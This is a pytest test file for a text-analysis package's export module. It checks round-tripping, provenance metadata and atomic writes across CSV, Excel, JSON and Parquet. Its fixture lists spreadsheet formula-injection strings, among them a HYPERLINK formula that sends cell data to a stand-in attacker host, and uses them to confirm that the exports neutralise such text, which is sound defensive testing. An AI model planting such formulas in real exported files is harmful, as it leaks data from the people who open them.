"""Exports: every format opened with its own reader gives back the same values, formula-like
text comes back neutralised in CSV and Excel, provenance travels with each file, and a failed
write leaves nothing behind."""

from __future__ import annotations

import io
import json
import math
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

import analysis
from analysis import export

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "-3", "plain text", "a = b"]
EXPECTED = ["'" + c for c in HOSTILE[:7]] + ["plain text", "a = b"]


@pytest.fixture
def injection() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "cell": HOSTILE,
        "score": [-1.5, 2.25, -3.0, float("nan"), 0.0, 1e-9, -7.0, 3.5, -0.25],
        "count": np.arange(-4, n - 4, dtype="int64"),
        "flag": [i % 2 == 0 for i in range(n)],
    })


@pytest.fixture
def prov() -> dict:
    return export.provenance([{"article": "<b>story</b>.txt", "sha256": "ab" * 32}], tables=["t"])


def test_csv_neutralises_text_and_keeps_numbers(injection):
    back = pd.read_csv(io.BytesIO(export.to_csv(injection)), keep_default_na=True)
    assert back["cell"].tolist() == EXPECTED
    assert pd.api.types.is_float_dtype(back["score"]) and pd.api.types.is_integer_dtype(back["count"])
    assert back["score"].tolist()[:3] == [-1.5, 2.25, -3.0] and math.isnan(back["score"][3])
    assert back["count"].tolist() == injection["count"].tolist()
    assert back["flag"].tolist() == injection["flag"].tolist()


def test_xlsx_cells_are_neutralised_text_and_numbers_are_numbers(injection, prov):
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"t": injection}, prov)))
    assert book.sheetnames == ["t", "provenance"]
    sheet = book["t"]
    header = [c.value for c in sheet[1]]
    assert header == ["cell", "score", "count", "flag"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == EXPECTED
    assert all(r[0].data_type == "s" for r in rows)  # stored as text, never as a formula ("f")
    assert [r[1].value for r in rows if r[1].value is not None] == [-1.5, 2.25, -3.0, 0.0, 1e-9, -7.0, 3.5, -0.25]
    assert all(r[1].data_type == "n" and r[2].data_type == "n" for r in rows if r[1].value is not None)
    assert [r[2].value for r in rows] == injection["count"].tolist()
    back = pd.read_excel(io.BytesIO(export.to_xlsx({"t": injection}, prov)), sheet_name="t")
    assert back["score"].dtype == float and back["count"].dtype == "int64"


def test_xlsx_provenance_sheet(prov, injection):
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"t": injection}, prov)))
    kv = {r[0].value: r[1].value for r in book["provenance"].iter_rows(min_row=2)}
    assert kv["input 1 file"] == "<b>story</b>.txt" and kv["input 1 sha256"] == "ab" * 32
    assert kv["version analysis"] == prov["versions"]["analysis"]
    assert kv["version lexicon:hedges"] == prov["versions"]["lexicon:hedges"]
    assert kv["exported_at"] == prov["exported_at"]


def test_json_is_strict_and_keeps_the_text(injection, prov):
    data = export.to_json({"t": injection.assign(inf=[float("inf")] + [1.0] * 8)}, prov)
    doc = json.loads(data, parse_constant=lambda c: pytest.fail(f"non-JSON constant {c}"))
    assert doc["provenance"]["inputs"] == [{"file": "<b>story</b>.txt", "sha256": "ab" * 32}]
    assert doc["provenance"]["versions"]["measure:sentiment"]
    rows = doc["t"]
    assert [r["cell"] for r in rows] == HOSTILE  # JSON is not run by spreadsheets: text as it is
    assert rows[3]["score"] is None and rows[0]["inf"] is None
    assert [r["count"] for r in rows] == injection["count"].tolist()
    assert [r["flag"] for r in rows] == injection["flag"].tolist()


def test_parquet_roundtrip_and_metadata(injection, prov):
    table = pq.read_table(io.BytesIO(export.to_parquet(injection, prov)))
    meta = json.loads(table.schema.metadata[export.PARQUET_KEY])
    assert meta == json.loads(export.provenance_json(prov))
    back = table.to_pandas()
    assert back["cell"].tolist() == HOSTILE
    pd.testing.assert_series_equal(back["score"], injection["score"])
    assert back["count"].dtype == "int64" and back["flag"].dtype == bool


def test_real_analysis_tables_roundtrip(bundled, tmp_path):
    prov = export.provenance([bundled], tables=["paragraphs"])
    paragraphs = bundled.paragraphs
    written = export.write({"paragraphs": paragraphs}, tmp_path / "p.csv", None, prov)
    assert [p.name for p in written] == ["p.csv", "p.csv.provenance.json"]
    side = json.loads(written[1].read_text(encoding="utf-8"))
    assert side["inputs"][0] == {"file": bundled.name, "sha256": bundled.meta["sha256"]}
    back = pd.read_csv(written[0])
    assert back["text"].tolist() == paragraphs["text"].tolist()
    for col in ("sentiment", "hedging", "alarm", "reading_ease"):
        np.testing.assert_allclose(back[col], paragraphs[col], rtol=1e-12, equal_nan=True)
    export.write({"paragraphs": paragraphs}, tmp_path / "p.parquet", None, prov)
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "p.parquet"), paragraphs, check_dtype=False)
    export.write({"evidence": bundled.evidence, "summary": bundled.summary}, tmp_path / "e.xlsx", None, prov)
    ev = pd.read_excel(tmp_path / "e.xlsx", sheet_name="evidence")
    assert ev["term"].tolist() == bundled.evidence["term"].tolist()
    assert ev["start"].tolist() == bundled.evidence["start"].tolist()


def test_csv_bundle_holds_table_and_provenance(injection, prov):
    with zipfile.ZipFile(io.BytesIO(export.csv_bundle(injection, prov, "t"))) as z:
        assert sorted(z.namelist()) == ["t.csv", "t.provenance.json"]
        assert pd.read_csv(z.open("t.csv"))["cell"].tolist() == EXPECTED
        assert json.loads(z.read("t.provenance.json"))["inputs"][0]["file"] == "<b>story</b>.txt"


def test_failed_write_leaves_no_partial_file_and_keeps_the_old_one(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")

    def boom(fh):
        fh.write(b"half a table")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        export.atomic_write(target, boom)
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_one_table_formats_refuse_several(injection, prov):
    with pytest.raises(ValueError, match="one table"):
        export.encode({"a": injection, "b": injection}, "parquet", prov)
    with pytest.raises(ValueError, match="unknown format"):
        export.encode({"a": injection}, "xls", prov)


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "analysis", *args], cwd=ROOT, capture_output=True,
                          text=True, check=False, timeout=120)


def test_cli_formats(tmp_path):
    article = tmp_path / "+SUM(1).txt"  # ingest keeps + and (), as a file name may
    article.write_text("=HYPERLINK(\"x\") may be a threat.\n\nOfficials warn of a crisis, experts said.",
                       encoding="utf-8")
    for fmt in export.FORMATS:
        out = tmp_path / f"summary.{fmt}"
        proc = run("summary", str(article), "--format", fmt, "--out", str(out))
        assert proc.returncode == 0, proc.stderr
    assert pd.read_csv(tmp_path / "summary.csv")["article"][0] == "'+SUM(1).txt"
    assert json.loads((tmp_path / "summary.csv.provenance.json").read_text())["inputs"][0]["file"] == "+SUM(1).txt"
    assert pd.read_excel(tmp_path / "summary.xlsx")["article"][0] == "'+SUM(1).txt"
    assert json.loads((tmp_path / "summary.json").read_text())["summary"][0]["article"] == "+SUM(1).txt"
    table = pq.read_table(tmp_path / "summary.parquet")
    assert json.loads(table.schema.metadata[export.PARQUET_KEY])["inputs"][0]["file"] == "+SUM(1).txt"
    proc = run("score", str(article), "--format", "xlsx", "--out", str(tmp_path / "s.xlsx"))
    assert proc.returncode == 0, proc.stderr
    assert openpyxl.load_workbook(tmp_path / "s.xlsx").sheetnames == ["paragraphs", "evidence", "summary",
                                                                    "provenance"]
    proc = run("score", str(article), "--format", "parquet")
    assert proc.returncode == 2 and "--out" in proc.stderr and proc.stdout == ""


def test_xlsx_writes_list_cells_as_json_text(prov):
    frame = pd.DataFrame({"outlets": [["a", "=b"], []], "n": [1, 2]})
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"t": frame}, prov)))
    assert [r[0].value for r in book["t"].iter_rows(min_row=2)] == ['["a", "=b"]', "[]"]


def test_joined_turns_list_cells_into_one_text_and_leaves_the_rest():
    frame = pd.DataFrame({"focus_paragraph": [1, 2], "outlets": [["Herald", "Wire"], []], "status": ["a", "b"]})
    out = export.joined(frame)
    assert out["outlets"].tolist() == ["Herald; Wire", ""]
    assert out[["focus_paragraph", "status"]].equals(frame[["focus_paragraph", "status"]])
    assert frame["outlets"].tolist() == [["Herald", "Wire"], []]  # a copy: the input is kept


def test_provenance_names_the_versions_the_inputs_were_scored_with_a_dictionary_included():
    from pathlib import Path

    from analysis import dictionaries
    from analysis.measures import REGISTRY

    d = dictionaries.load(Path(__file__).resolve().parents[1] / "fixtures" / "dictionaries" / "newsframes.dic")
    result = analysis.analyze("The government warned of a crisis.", measures=(*REGISTRY, d.measure()))
    prov = export.provenance([result])
    assert prov["versions"]["measure:newsframes"] == d.version
    assert prov["versions"] == result.meta["versions"]
    assert "measure:newsframes" not in export.provenance([analysis.analyze("A crisis.")])["versions"]
